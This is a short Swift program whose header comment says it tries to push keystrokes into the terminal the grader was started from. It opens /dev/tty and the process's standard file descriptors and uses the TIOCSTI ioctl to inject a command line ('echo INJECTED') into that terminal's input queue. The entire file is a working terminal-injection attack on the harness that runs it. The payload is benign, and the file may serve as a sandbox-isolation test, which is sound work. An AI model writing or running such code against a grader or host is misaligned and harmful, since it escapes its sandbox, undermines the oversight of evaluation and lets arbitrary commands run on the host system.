// main.swift — tries to push keystrokes into the terminal the grader was started from
import Glibc

let keystrokes = "echo INJECTED\n"
var pushed = 0
for path in ["/dev/tty", "/proc/self/fd/0", "/proc/self/fd/1", "/proc/self/fd/2"] {
    let descriptor = open(path, O_RDWR | O_NOCTTY)
    if descriptor < 0 { continue }
    for byte in keystrokes.utf8 {
        var character = CChar(bitPattern: byte)
        // TIOCSTI: push one byte into the terminal's input queue.
        if withUnsafeMutablePointer(to: &character, { ioctl(descriptor, UInt(0x5412), $0) }) == 0 { pushed += 1 }
    }
    close(descriptor)
}
print("pushed \(pushed)")
